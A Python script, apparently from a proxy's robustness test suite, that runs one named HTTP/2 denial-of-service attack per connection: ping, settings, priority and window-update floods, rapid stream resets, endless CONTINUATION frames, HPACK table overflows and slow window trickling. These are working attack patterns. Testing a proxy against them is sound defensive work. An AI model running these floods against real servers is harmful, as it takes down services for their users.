"""One attack on one connection: attacks.py PORT CA NAME

Half way it says "half" and waits for a line; the last line is what became of it. Each attack goes on beyond every
limit, so that only the proxy ends it.
"""
import sys

from hyperframe import frame

from wire import Ended, Wire, half

SOME = 400  # frames at a time
ROUNDS = 60


def flood(wire, some):
    """Again and again, read and unread."""
    for turn in range(ROUNDS):
        if turn == 1:
            half()
        wire.send(*some())
        wire.receive_now()
    wire.await_end()


def pings(wire):
    flood(wire, lambda: [frame.PingFrame(0, opaque_data=b"12345678")] * SOME)


def settings(wire):
    flood(wire, lambda: [frame.SettingsFrame(0)] * SOME)


def priorities(wire):
    flood(wire, lambda: [frame.PriorityFrame(n * 2 + 1, depends_on=0, stream_weight=9) for n in range(SOME)])


def window_updates(wire):
    flood(wire, lambda: [frame.WindowUpdateFrame(0, window_increment=1)] * SOME)


def unknown_frames(wire):
    flood(wire, lambda: [b"\0\0\4\xee\0\0\0\0\0what"] * SOME)


def goaways(wire):
    flood(wire, lambda: [frame.GoAwayFrame(0)] * SOME)


def empty_data(wire):
    wire.send(wire.request(1, "/held"))
    flood(wire, lambda: [frame.DataFrame(1)] * SOME)


def padded_nothing(wire):
    """Padding of zero length, and nothing in the frame."""
    wire.send(wire.request(1, "/held"))
    flood(wire, lambda: [frame.DataFrame(1, flags=["PADDED"], pad_length=0)] * SOME)


def nothing_but_padding(wire):
    """It uses up the window, too."""
    wire.send(wire.request(1, "/held"))
    flood(wire, lambda: [frame.DataFrame(1, flags=["PADDED"], pad_length=255)] * SOME)


class Streams:
    def __init__(self):
        self.last = -1

    def next(self):
        self.last += 2
        return self.last


def rapid_resets(wire):
    ids = Streams()

    def some():
        for _ in range(SOME):
            stream = ids.next()
            yield wire.request(stream, "/held", flags=("END_HEADERS", "END_STREAM"))
            yield frame.RstStreamFrame(stream, error_code=8)
    flood(wire, some)


def resets_by_mistakes(wire):
    """The proxy is made to reset each stream itself."""
    ids = Streams()

    def some():
        for _ in range(SOME):
            stream = ids.next()
            yield wire.request(stream, "/held")
            yield frame.WindowUpdateFrame(stream, window_increment=0)
    flood(wire, some)


def resets_by_lengths(wire):
    ids = Streams()

    def some():
        for _ in range(SOME):
            stream = ids.next()
            yield wire.request(stream, "/held", fields=[("content-length", "1")])
            yield frame.DataFrame(stream, data=b"two")
    flood(wire, some)


def malformed_requests(wire):
    ids = Streams()
    flood(wire, lambda: [wire.request(ids.next(), "/held", fields=[("connection", "close")]) for _ in range(SOME)])


def too_many_streams(wire):
    ids = Streams()
    flood(wire, lambda: [wire.request(ids.next(), "/held") for _ in range(SOME)])


def settings_of_windows(wire):
    """Each of a frame's settings changes the windows of all streams."""
    for stream in range(1, 201, 2):
        wire.send(wire.request(stream, "/held"))
    entries = b"".join(b"\0\4\0\0" + bytes([1 + n % 2, 0]) for n in range(2730))
    one = len(entries).to_bytes(3, "big") + b"\4\0\0\0\0\0" + entries
    wire.send(one, one)
    half()
    wire.send(*[one] * SOME)
    wire.await_end()


def window_by_window(wire):
    """A window of one byte, opened byte by byte."""
    wire.send(frame.SettingsFrame(0, settings={4: 0}))
    ids = [stream for stream in range(1, 201, 2)]
    wire.send(*[wire.request(stream, "/bytes/100000", "GET", ("END_HEADERS", "END_STREAM")) for stream in ids])
    flood(wire, lambda: [frame.WindowUpdateFrame(stream, window_increment=1) for stream in ids] * 4)


def continuations(wire):
    """A header block that never ends, of nothing."""
    wire.send(wire.headers(1, flags=["END_STREAM"]))
    wire.send(*[frame.ContinuationFrame(1)] * 40)
    half()
    wire.send(*[frame.ContinuationFrame(1)] * 40)
    wire.await_end()


def long_continuations(wire):
    wire.send(wire.headers(1, flags=["END_STREAM"]))
    field = b"\0\7x-field\x7f\x81\x3f" + b"v" * 8192
    wire.send(*[frame.ContinuationFrame(1, data=field)] * 8)
    half()
    wire.send(*[frame.ContinuationFrame(1, data=field)] * 40)
    wire.await_end()


def interrupted_block(wire):
    wire.send(wire.headers(1, flags=["END_STREAM"]))
    half()
    wire.send(frame.PingFrame(0, opaque_data=b"12345678"))
    wire.await_end()


def invalid_block(wire):
    wire.send(wire.headers(1))
    half()
    wire.send(frame.HeadersFrame(3, data=b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", flags=["END_HEADERS"]))
    wire.await_end()


def table_beyond_its_limit(wire):
    wire.send(wire.headers(1))
    half()
    wire.send(frame.HeadersFrame(3, data=b"\x3f\xe1\xff\x03", flags=["END_HEADERS"]))
    wire.await_end()


def windows_out_of_range(wire):
    wire.send(frame.WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535))
    half()
    wire.send(frame.WindowUpdateFrame(0, window_increment=1))
    wire.await_end()


def ignored_windows(wire):
    """Two requests wait for a server that is busy, so no content is passed on. Each stays within its stream's window."""
    wire.send(wire.request(1, "/busy"), *[frame.DataFrame(1, data=b"x" * 16384)] * 3)
    half()
    wire.send(wire.request(3, "/busy"), *[frame.DataFrame(3, data=b"x" * 16384)] * 3)
    wire.await_end()


if __name__ == "__main__":
    try:
        globals()[sys.argv[3]](Wire(int(sys.argv[1]), sys.argv[2]))
    except Ended as ended:
        print(ended.said)
